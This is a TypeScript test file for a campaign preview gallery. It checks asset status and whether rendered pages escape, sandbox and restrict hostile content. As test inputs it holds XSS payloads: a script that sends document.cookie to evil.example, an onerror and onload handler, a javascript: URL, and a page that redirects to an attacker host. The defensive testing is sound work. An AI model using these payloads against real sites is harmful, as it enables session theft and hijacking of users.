import { expect, test } from 'vitest';
import type { Asset, CampaignPlan, Receipt, Verdict } from '../generated/entities.ts';
import { emptyHub } from '../testing/hub-state.ts';
import type { Files, HubState, MadeAsset, Unit } from './contracts.ts';
import { filesDigest, sha256 } from './hash.ts';
import { exampleUnit } from './policy/sample.ts';
import { type AssetPreview, type CampaignPreview, previewOf } from './preview/model.ts';
import { galleryOf } from './preview.ts';

const NOW = '2026-11-23T10:00:00Z';
const ANGLE = { pain: 'lost-notes', outcome: 'found-again', mechanism: 'saving', proof: 'benchmark' };
const CHANNELS = { landing_page: 'web', email: 'outbox', social_post: 'feed', one_pager: 'web' } as const;

interface Given {
  readonly kind?: keyof typeof CHANNELS;
  readonly files?: Readonly<Record<string, string | Uint8Array>>;
  readonly asset?: Partial<Asset>;
}

function made(
  id: string,
  { kind = 'social_post', files = { 'post.txt': 'A note.\n' }, asset = {} }: Given = {},
): MadeAsset {
  const content: Files = new Map(Object.entries(files));
  return {
    id,
    campaign: exampleUnit.campaign.id,
    files: content,
    asset: {
      kind,
      channel: CHANNELS[kind],
      slot: '2026-11-20T09:30[Europe/Berlin]',
      attempt: 1,
      engine: 'template',
      brief: sha256('brief'),
      plan: sha256('plan'),
      template: { path: 'templates/post.txt.hbs', sha256: sha256('template') },
      angle: ANGLE,
      title: `Title of ${id}`,
      facts: ['save-time'],
      signals: [],
      copy: [{ slot: 'post.text', text: 'A note.', facts: ['save-time'] }],
      files: [...content].map(([name, bytes]) => ({ name, sha256: sha256(bytes) })),
      content: filesDigest(content),
      ...asset,
    },
  };
}

const verdictFor = ({ asset }: MadeAsset, result: Verdict['result'], more: Partial<Verdict> = {}): Verdict => ({
  content: asset.content,
  policy: sha256('policy'),
  grounds: sha256('grounds'),
  packs: ['base 2.0.0'],
  result,
  attempt: asset.attempt,
  rules: [{ rule: 'base/plain-words', result: result === 'pass' ? 'pass' : 'fail' }],
  findings: [],
  history: [],
  ...more,
});

const receiptFor = ({ id, asset }: MadeAsset, status: Receipt['status'], at = NOW): Receipt => ({
  key: sha256([exampleUnit.campaign.id, id, asset.channel, asset.slot].join('\0')),
  attempt: 1,
  status,
  run: 'r1',
  at,
  campaign: exampleUnit.campaign.id,
  asset: id,
  brand: exampleUnit.brand.id,
  channel: asset.channel,
  slot: asset.slot,
  content: asset.content,
  url: 'https://northwind.example/feed.xml#1',
  prev: '0'.repeat(40),
});

const planned = (
  asset: string,
  more: Partial<CampaignPlan['assets'][number]> = {},
): CampaignPlan['assets'][number] => ({
  asset,
  kind: 'social_post',
  segment: 'writers',
  offer: 'notes',
  channel: 'feed',
  slot: '2026-11-25T09:30[Europe/Berlin]',
  due: '2026-11-25T08:30:00Z',
  angle: ANGLE,
  why: 'score 0.5: priority +0.5',
  ...more,
});

const planOf = (assets: CampaignPlan['assets']): CampaignPlan => ({
  inputs: sha256('inputs'),
  segment: 'writers',
  offer: 'notes',
  why: ['It leads.'],
  signals: [],
  facts: [],
  assets,
  rejected: [],
});

const preview = (state: Partial<HubState>, unit: Unit = exampleUnit): CampaignPreview =>
  previewOf(unit, { ...emptyHub, ...state }, { now: NOW, limits: new Map([['feed', { maxLength: 300 }]]) });

const standingOf = (state: Partial<HubState>, unit?: Unit) =>
  preview(state, unit).assets.map(({ status, because }) => ({ status, ...(because ? { because } : {}) }));

function gallery(shown: CampaignPreview, assets: readonly MadeAsset[]): ReadonlyMap<string, string> {
  const contents = (_campaign: string, id: string): Files => assets.find((one) => one.id === id)?.files ?? new Map();
  const files = galleryOf({ now: NOW, campaigns: [shown], problems: [], contents });
  return new Map([...files].map(([path, content]) => [path, String(content)]));
}

const pagesOf = (files: ReadonlyMap<string, string>): string[] =>
  [...files].flatMap(([path, text]) => (path.endsWith('.html') && !path.startsWith('assets/') ? [text] : []));

test('an asset stands where its verdict, the ledger and the switches say', () => {
  const post = made('post');
  const verdicts = (result: Verdict['result'], more: Partial<Verdict> = {}) =>
    new Map([['post', verdictFor(post, result, more)]]);
  const assets = [post];
  expect(standingOf({ plan: planOf([planned('later')]) })).toEqual([{ status: 'planned' }]);
  expect(standingOf({ assets })).toEqual([{ status: 'made', because: 'Guard has yet to judge it' }]);
  expect(standingOf({ assets, verdicts: verdicts('pass') })).toEqual([{ status: 'passed', because: 'attempt 1' }]);
  expect(standingOf({ assets, verdicts: verdicts('deny', { reason: 'finding' }) })).toEqual([
    { status: 'denied', because: 'attempt 1, finding' },
  ]);
  expect(standingOf({ assets, verdicts: verdicts('reject', { reason: 'repairs_exhausted' }) })).toEqual([
    { status: 'rejected', because: 'attempt 1, repairs exhausted' },
  ]);
  expect(standingOf({ assets, verdicts: verdicts('blocked', { reason: 'no_browser' }) })[0]?.status).toBe('unjudged');
  const sent = receiptFor(post, 'sent');
  expect(standingOf({ assets, verdicts: verdicts('pass'), receipts: [sent] })).toEqual([{ status: 'published' }]);
  const down = { ...receiptFor(post, 'withdrawn'), because: 'a fact has expired' };
  expect(standingOf({ assets, verdicts: verdicts('deny'), receipts: [sent, down] })).toEqual([
    { status: 'withdrawn', because: 'a fact has expired' },
  ]);
  const { brand, key, campaign, asset, channel, slot, content } = sent;
  const place = { brand, key, campaign, asset, channel, slot, content };
  const intent = { ...place, attempt: 1, run: 'r1', at: NOW, class: 'key', effect: 'outside' } as const;
  expect(standingOf({ assets, verdicts: verdicts('pass'), intents: [intent] })[0]?.status).toBe('in_doubt');
});

test('what a switch or a halt holds back is halted, what was refused stays refused', () => {
  const post = made('post');
  const off = {
    ...exampleUnit,
    workspace: { ...exampleUnit.workspace, breakers: { ...exampleUnit.workspace.breakers, publish_enabled: false } },
  };
  const halted = { status: 'halted', because: 'workspace: publish_enabled is false in mhub.yaml' };
  const passed = new Map([['post', verdictFor(post, 'pass')]]);
  const rejected = new Map([['post', verdictFor(post, 'reject')]]);
  expect(standingOf({ assets: [post], verdicts: passed }, off)).toEqual([halted]);
  expect(standingOf({ assets: [post], verdicts: rejected }, off)).toEqual([
    { status: 'rejected', because: 'attempt 1' },
  ]);
});

test('files that were changed after the verdict are not shown as passed', () => {
  const post = made('post');
  const edited = { ...post, files: new Map([['post.txt', 'Edited.\n']]) };
  expect(standingOf({ assets: [edited], verdicts: new Map([['post', verdictFor(post, 'pass')]]) })).toEqual([
    { status: 'made', because: 'its files were changed by hand; Guard judges them next' },
  ]);
});

test('assets stand by kind, on change first, then what comes, then what has gone with the latest first', () => {
  const assets = [
    made('monday', { asset: { slot: '2026-11-16T09:30[Europe/Berlin]' } }),
    made('friday'),
    made('page', { kind: 'landing_page', files: { 'index.html': '<p>x' }, asset: { slot: 'on_change' } }),
  ];
  const plan = planOf([
    planned('next-week', { slot: '2026-11-30T09:30[Europe/Berlin]', due: '2026-11-30T08:30:00Z' }),
    planned('this-week'),
  ]);
  const shown = preview({ assets, plan }).assets;
  expect(shown.filter(({ kind }) => kind === 'social_post').map(({ id }) => id)).toEqual([
    'this-week',
    'next-week',
    'friday',
    'monday',
  ]);
  expect(shown.find(({ id }) => id === 'friday')?.due).toBe('2026-11-20T08:30:00Z');
});

test('angle and facts are told in the words of the brand, with their source', () => {
  const [shown] = preview({ assets: [made('post')] }).assets as [AssetPreview];
  expect(shown.facts).toEqual([
    {
      id: 'save-time',
      statement: 'Northwind saves each note within two seconds.',
      source: 'docs/benchmark.md',
      checked: '2026-11-01',
      expires: '2027-11-01',
    },
  ]);
  expect(shown.angle.proof).toBe('Northwind saves each note within two seconds.');
  expect(shown.angle.pain).toMatch(/^[A-Z].*\.$/);
  expect(shown.made?.files[0]?.length).toEqual({ characters: 7, limit: 300 });
});

const POISON = '"><script>fetch("https://evil.example/?"+document.cookie)</script><img src=x onerror=alert(1)>';

test('nothing of a poisoned asset becomes markup of the gallery', () => {
  const post = made('post', {
    files: { 'post.txt': `${POISON}\n`, 'card.png': new Uint8Array([137, 80, 78, 71]), 'card.alt.txt': POISON },
    asset: {
      title: POISON,
      path: POISON,
      engine: POISON,
      template: { path: POISON, sha256: sha256('') },
      copy: [{ slot: POISON, text: POISON, facts: [POISON] }],
      fixes: [{ rule: POISON, from: POISON, to: POISON }],
    },
  });
  const finding = {
    rule: POISON,
    severity: 'block',
    message: POISON,
    file: 'post.txt',
    line: 1,
    column: 5,
    excerpt: POISON,
    selector: POISON,
    fix: { from: POISON, to: POISON },
  } as const;
  const verdict = verdictFor(post, 'deny', {
    packs: [POISON],
    rules: [{ rule: POISON, result: 'error', why: POISON }],
    findings: [finding],
    history: [{ attempt: 1, content: sha256('before'), findings: [finding] }],
    observed: [POISON],
  });
  const receipt = { ...receiptFor(post, 'sent'), url: `javascript:alert(1)//${POISON}` };
  const state = { assets: [post], verdicts: new Map([['post', verdict]]), receipts: [receipt] };
  const plan = planOf([planned('post', { why: POISON, slot: post.asset.slot })]);
  const files = gallery(preview({ ...state, plan }), [post]);
  const pages = pagesOf(files);
  expect(pages).toHaveLength(2);
  for (const page of pages) {
    expect(page).not.toMatch(/<script|<img src=x|\shref="javascript:/i);
    expect(page).not.toMatch(/\son\w+="/);
    expect(page.match(/&lt;script&gt;/g)?.length ?? 0).toBeGreaterThan(0);
    expect(page).toMatch(/Content-Security-Policy" content="default-src 'none'; style-src 'sha256-[^']+'; /);
  }
  expect(pages[1]).toContain('post.txt:1:5');
});

const HOSTILE = `<script>parent.document.title='owned'</script><!DOCTYPE html><html lang="en"><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<style>p{color:#111}@media (prefers-color-scheme: dark){p{color:#eee}}</style></head><body><p onclick="x()">Hi</p></body></html>`;

test('a page of an asset stands in a sandbox, below a policy that comes before its first byte', () => {
  const page = made('page', { kind: 'landing_page', files: { 'index.html': HOSTILE }, asset: { slot: 'on_change' } });
  const files = gallery(preview({ assets: [page] }), [page]);
  const { id: campaign } = exampleUnit.campaign;
  const written = files.get(`assets/${campaign}/page/index.html`) ?? '';
  expect(written).toMatch(
    /^<!DOCTYPE html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; /,
  );
  expect(written.slice(written.indexOf('\n') + 1)).toBe(HOSTILE);
  for (const shown of pagesOf(files)) {
    expect(shown).not.toContain('parent.document');
    for (const [frame] of shown.matchAll(/<iframe[^>]*>/g)) expect(frame).toContain(' sandbox="" ');
  }
  expect(files.get(`assets/${campaign}/page/dark/index.html`)).toContain('@media (min-width:0){p{color:#eee}}');
  expect(files.get(`assets/${campaign}/page/light/index.html`)).toContain('@media (max-width:0){p{color:#eee}}');
});

test('files are shown by their extension: pictures, documents, drawings, text and plain bytes', () => {
  const bytes = new Uint8Array([0, 1, 2, 255]);
  const asset = made('sheet', {
    kind: 'one_pager',
    files: {
      'Sheet.PDF': bytes,
      'photo.jpg': bytes,
      'photo.alt.txt': 'A desk.\n',
      'shape.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      'notes.md': '# Notes',
      'font.bin': bytes,
    },
  });
  const files = gallery(preview({ assets: [asset] }), [asset]);
  const { id: campaign } = exampleUnit.campaign;
  const page = files.get(`campaigns/${campaign}/sheet.html`) ?? '';
  const written = [...files.keys()].filter((path) => path.startsWith('assets/'));
  expect(written).toEqual([`assets/${campaign}/sheet/Sheet.PDF`, `assets/${campaign}/sheet/photo.jpg`]);
  expect(page).toContain(`<object data="../../assets/${campaign}/sheet/Sheet.PDF" type="application/pdf"`);
  expect(page).toContain(`<img src="../../assets/${campaign}/sheet/photo.jpg" alt="A desk."`);
  expect(page).toContain('# Notes');
  expect(page).toContain('font.bin, 4 bytes');
  expect(page).not.toContain('onload');
});

test('variants of one occasion share a page, side by side', () => {
  const arm = (id: 'a' | 'b') =>
    made(`page-${id}`, {
      kind: 'landing_page',
      files: { 'index.html': `<p>${id}` },
      asset: { slot: 'on_change', arm: id },
    });
  const assets = [arm('a'), arm('b')];
  const files = gallery(preview({ assets }), assets);
  const { id: campaign } = exampleUnit.campaign;
  const page = files.get(`campaigns/${campaign}/page-a.html`) ?? '';
  expect(files.has(`campaigns/${campaign}/page-b.html`)).toBe(false);
  expect(page).toContain('class="variants two"');
  expect(page).toContain('Arm a: Title of page-a');
  expect(page).toContain('Arm b: Title of page-b');
});

test('each link, choice and fold of the gallery has a name of its own', () => {
  const page = made('page', { kind: 'landing_page', files: { 'index.html': HOSTILE }, asset: { slot: 'on_change' } });
  const verdicts = new Map([['page', verdictFor(page, 'pass')]]);
  const shown = preview({ assets: [page, made('post')], verdicts, plan: planOf([planned('later')]) });
  for (const text of pagesOf(gallery(shown, [page]))) {
    const controls = [...text.matchAll(/<(?:a|input|summary|button|select)\b[^>]*>/g)].map(([tag]) => tag);
    const names = controls.map((tag) => /\sdata-cta-id="([^"]+)"/.exec(tag)?.[1]);
    expect(names).not.toContain(undefined);
    expect(new Set(names).size).toBe(names.length);
  }
});

test('links are relative, so that the folder works from the disk and below any path', () => {
  const page = made('page', { kind: 'landing_page', files: { 'index.html': '<p>x' }, asset: { slot: 'on_change' } });
  const files = gallery(preview({ assets: [page] }), [page]);
  for (const [path, text] of files) {
    if (path.startsWith('assets/')) continue;
    for (const [, target = ''] of text.matchAll(/\s(?:href|src|data)="([^"]+)"/g)) {
      if (/^(?:#|data:)/.test(target)) continue;
      expect(target).not.toMatch(/^(?:\/|[a-z]+:)/);
      const { pathname } = new URL(target, `https://gallery.example/${path}`);
      expect(files.has(pathname.slice(1)), `${path} -> ${target}`).toBe(true);
    }
  }
});

test('several campaigns begin with a list of them, and name what had to be left out', () => {
  const one = preview({ assets: [made('post')] });
  const two = { ...one, campaign: 'autumn', name: 'Autumn' };
  const problem = { file: 'campaigns/x/campaign.yaml', line: 4, column: 9, message: 'goal is "sales"' };
  const files = galleryOf({ now: NOW, campaigns: [one, two], problems: [problem], contents: () => new Map() });
  const index = String(files.get('index.html'));
  expect(index).toContain('href="campaigns/autumn.html"');
  expect(index).toContain('campaigns/x/campaign.yaml:4:9: goal is &quot;sales&quot;');
  expect(String(files.get('campaigns/autumn.html'))).toContain('href="../index.html"');
});
